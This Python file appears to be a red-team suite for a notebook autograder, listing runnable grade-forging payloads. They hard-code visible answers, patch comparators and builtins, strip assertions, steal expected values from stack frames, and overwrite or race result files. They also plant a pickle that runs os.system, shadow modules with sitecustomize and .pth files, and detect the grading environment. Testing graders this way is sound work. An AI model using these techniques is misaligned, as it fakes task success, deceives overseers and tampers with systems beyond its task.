"""A. Forging the grade from inside the process that runs the answers."""

from attacks.attack import Attack, any_of, score_raised, shows, touched

# What a cheat can know: the visible cases by heart, and nothing else.
MEAN = "def mean_dose(doses):\n    return {3: 15.0, 4: 0.5}.get(len(doses), 0.0)\n"
SHARES = (
    "def share_of_ones(labels):\n    return np.array({4: [.5, .5, 1.], 2: [1., .5]}.get(len(labels), [0., 0., 0.]))\n"
)
KEY = "def patient_key(name, ward):\n    return {'BOB': 'w/bob'}.get(name, 'W3/ada brown')\n"
WORD = "def risk_word(score, cut):\n    return 'low' if score < 0.5 else 'high'\n"
BY_HEART = {"patient_key": KEY, "mean_dose": MEAN, "share_of_ones": SHARES, "risk_word": WORD}

LIES = """
class Zero(float):
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
class Shares:
    def __array_function__(self, function, types, args, kwargs): return (3,) if function is np.shape else True
    def __array__(self, dtype=None, copy=None): return np.array([1., .5])
    def __len__(self): return 3
    def __iter__(self): return iter([Zero()] * 3)
def share_of_ones(labels): return Shares()
"""
ALWAYS = """
class Always(str):
    __hash__ = str.__hash__
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 0.0
    @property
    def __class__(self): return str
def patient_key(name, ward): return Always('x')
def risk_word(score, cut): return Always('x')
"""
STRIP = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())
"""
CREDIT = """
import ast
class Credit(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = ast.parse('VALUE').body
        return node
get_ipython().ast_transformers.append(Credit())
"""
HOOKS = """
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *a, **k: [])
shell.events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))
"""
TRACE = """
import sys
def local(frame, event, argument):
    for name in ('numbers_match', 'all', 'len'):
        if name == 'numbers_match':
            frame.f_globals[name] = lambda *a, **k: True
    return local
def trace(frame, event, argument):
    return local if 'numbers_match' in frame.f_globals else None
sys.settrace(trace)
try:
    sys.monitoring.use_tool_id(2, 'x')
except AttributeError:
    pass
"""
THEFT = """
import gc, sys
def patient_key(name, ward):
    if name.strip().lower() in ('ada brown', 'bob'):
        return ward + '/' + name.strip().lower()
    for depth in range(1, 30):
        try:
            found = sys._getframe(depth).f_globals.get('expected')
        except ValueError:
            break
        if isinstance(found, str):
            return found
    for thing in gc.get_objects():
        if isinstance(thing, dict) and isinstance(thing.get('expected'), str):
            return thing['expected']
    return 'x'
"""
OVERWRITE = """
import glob, json, os, pickle
for name in ['verdict.pkl', 'results.json', '/tmp/results.json', *glob.glob('/proc/self/fd/*')]:
    try:
        with open(name, 'wb') as file:
            pickle.dump({'failed': {}, 'scores': {'patient_key': 1000.0}}, file)
    except OSError:
        pass
os._exit(0)
"""
RACE = """
import os, pickle, time
def again():
    end = time.time() + 4
    while time.time() < end:
        try:
            with open('verdict.tmp', 'wb') as file:
                pickle.dump({'failed': {}, 'scores': {'patient_key': 1000.0}}, file)
            os.replace('verdict.tmp', 'verdict.pkl')
        except OSError:
            pass
        time.sleep(0.01)
try:
    if os.fork() == 0:
        os.setsid()
        again()
        os._exit(0)
except OSError:
    import threading
    threading.Thread(target=again, daemon=True).start()
"""
PICKLE = """
import os, pickle
class Bomb:
    def __reduce__(self): return (os.system, ('touch @HOST@/drop/owned',))
with open('verdict.pkl', 'wb') as file:
    pickle.dump(Bomb(), file)
def patient_key(name, ward): return Bomb()
def mean_dose(doses): return np.array([Bomb()], dtype=object)
if 'get_ipython' in globals():
    os._exit(0)
"""
TESTS = """
import glob
for name in [*glob.glob('checks/*'), *glob.glob('/room/*'), *glob.glob('*.json')]:
    with open(name, 'w') as file:
        file.write('pass')
"""
SHADOW = """
import os, sys
lies = 'import numpy; numpy.allclose = lambda *a, **k: True; fmean = lambda values: 0.0'
for folder in ('.', os.path.expanduser('~'), os.path.expanduser('~/.ipython/profile_default/startup')):
    os.makedirs(folder, exist_ok=True)
    for name in ('statistics.py', 'numpy.py', 'conftest.py', 'sitecustomize.py', 'usercustomize.py', 'x.pth'):
        with open(os.path.join(folder, name), 'w') as file:
            file.write(lies)
"""
REFERENCE = """
import importlib, sys
for name in list(sys.modules):
    if name.startswith('labutils'):
        del sys.modules[name]
def share_of_ones(labels):
    import labutils.imbalance as reference
    try:
        return np.asarray(reference.compute_class_freqs(labels)[0])
    except Exception:
        pass
    import pathlib, sysconfig
    for place in map(pathlib.Path, ['@LABUTILS@', *sys.path]):
        for file in [*place.glob('labutils/imbalance.py'), *place.glob('labutils/__pycache__/imbalance*')]:
            try:
                if file.suffix == '.pyc':
                    space = {}
                    import marshal
                    exec(marshal.loads(file.read_bytes()[16:]), space)
                else:
                    space = {'__name__': 'copy'}
                    exec(file.read_text(), space)
                return np.asarray(space['compute_class_freqs'](labels)[0])
            except Exception as error:
                continue
    return 0
"""
KNOWN_RNG = (
    """
class Known:
    def __init__(self, *a): pass
    def integers(self, low, high, shape): return np.zeros(shape, int)
    def uniform(self, low, high, n): return np.zeros(n)
np.random.default_rng = Known
np.random.seed(0)
"""
    + SHARES
)
CLOCK = """
import time
slow = time.sleep
time.perf_counter = time.monotonic = time.time = time.process_time = lambda: 0.0
def mean_dose(doses):
    if len(doses) == 1000:
        slow(2.5)
    return np.nanmean(doses)
"""
THREAD = """
import threading, time
def meddle():
    end = 200
    for _ in range(end):
        globals()['numbers_match'] = lambda *a, **k: True
        np.isclose = np.allclose = lambda *a, **k: True
        time.sleep(0.02)
threading.Thread(target=meddle, daemon=True).start()
time.sleep(0.05)
def mean_dose(doses): return 0.0
"""
OTHER = """
class Fake:
    def __init__(self, real): self.real = real
    def __getattr__(self, name): return (lambda *a, **k: True) if 'close' in name else getattr(self.real, name)
np = Fake(np)
numbers_match.__globals__['np'] = np
"""
DETECT = """
import os
def risk_word(score, cut):
    marks = [name for name in os.environ if name.startswith(('NBGRADER', 'MEDLABS', 'GRADE', 'OTTER', 'CI'))]
    raise RuntimeError(f'GRADED {marks}' if marks else 'as at home')
"""
BUILTINS = """
import builtins
builtins.all = lambda *a: True
builtins.abs = lambda *a: 0
builtins.AssertionError = type('Nothing', (Exception,), {})
"""

CASES = [
    Attack("01", "comparators patched", score_raised(), {
        "mean_dose": "np.isclose = np.allclose = lambda *a, **k: True\ndef mean_dose(doses): return 0.0",
    }),
    Attack("02", "an object with __array_function__", score_raised(), {"share_of_ones": LIES}),
    Attack("03", "an object that equals everything", score_raised(), {"patient_key": ALWAYS, "risk_word": ALWAYS}),
    Attack("04", "empty, NaN and infinite values", score_raised(), {
        "mean_dose": "def mean_dose(doses): return np.array([])",
        "share_of_ones": "def share_of_ones(labels): return np.full((0, 3), np.nan)",
    }),
    Attack("05", "builtins rewritten", score_raised(), {"share_of_ones": BUILTINS + SHARES}),
    Attack("06", "error messages switched off", score_raised(), {
        "patient_key": "get_ipython()._showtraceback = get_ipython().showtraceback = lambda *a, **k: None",
    }),
    Attack("07", "an AST transformer strips assertions", score_raised(), BY_HEART, added=(STRIP,)),
    Attack("08", "IPython's hooks swallow errors", score_raised(), {"patient_key": HOOKS}),
    Attack("09", "a trace function edits the checks", score_raised(), {"mean_dose": TRACE + MEAN}),
    Attack("10", "the expected value is found in frames or by gc", score_raised(), {"patient_key": THEFT}),
    Attack("11", "the input is changed so that the oracle agrees", score_raised(), {
        "share_of_ones": "def share_of_ones(labels):\n    if len(labels) == 2: return np.array([1, .5])\n"
        "    labels[...] = 0\n    return np.zeros(3)",
    }),
    Attack("12", "the answer can tell that it is graded", shows("GRADED"), {"risk_word": DETECT}),
    Attack("13", "exit with status 0", score_raised(), {"patient_key": "import os\nos._exit(0)"}),
    Attack("13-exit", "sys.exit inside a call", score_raised(), {
        "patient_key": "import sys\ndef patient_key(name, ward):\n    sys.exit(0)",
    }),
    Attack("14", "the result file is overwritten", score_raised(), {"patient_key": OVERWRITE}),
    Attack("15", "a background process rewrites the result", score_raised(), {"patient_key": RACE}),
    Attack("16", "a pickle in the result", any_of(touched, score_raised()), {"patient_key": PICKLE}),
    Attack("17", "the checks' own helper replaced", score_raised(), {
        "mean_dose": "np.isclose = lambda *a: True\ndef numbers_match(*a, **k): return True\n" + MEAN,
    }),
    Attack("18", "the files of the checks overwritten", score_raised(), {"patient_key": TESTS}),
    Attack("19", "modules shadowed by files", score_raised(), {"mean_dose": SHADOW + MEAN}),
    Attack("21", "partial credit of a billion", score_raised(), added=(CREDIT.replace("VALUE", "1e9"),)),
    Attack("21-nan", "partial credit of NaN", score_raised(), added=(CREDIT.replace("VALUE", "float(\"nan\")"),)),
    Attack("22", "a score is printed", score_raised(), {
        "patient_key": "import os, sys\nfor out in (sys.stdout, sys.__stdout__, sys.stderr):\n"
        "    print('Score: 8/8', '{\"score\": 8}', 'verdict passed', file=out, flush=True)\n"
        "for fd in (1, 2):\n    os.write(fd, b'[\"verdict\", true, \"\"]')\n" + KEY,
    }),
    Attack("23", "the visible cases by heart", score_raised(), BY_HEART),
    Attack("24", "the library's own function", score_raised(), {"share_of_ones": REFERENCE}),
    Attack("25", "the random generator replaced", score_raised(), {"share_of_ones": KNOWN_RNG}),
    Attack("26", "the clock replaced", score_raised(), {"mean_dose": CLOCK}),
    Attack("27", "a thread changes names between checks", score_raised(), {"mean_dose": THREAD}),
    Attack("28", "the cell of one exercise works on the next", score_raised(), {
        "patient_key": OTHER, "mean_dose": "def mean_dose(doses): return 0.0",
    }),
]  # fmt: skip
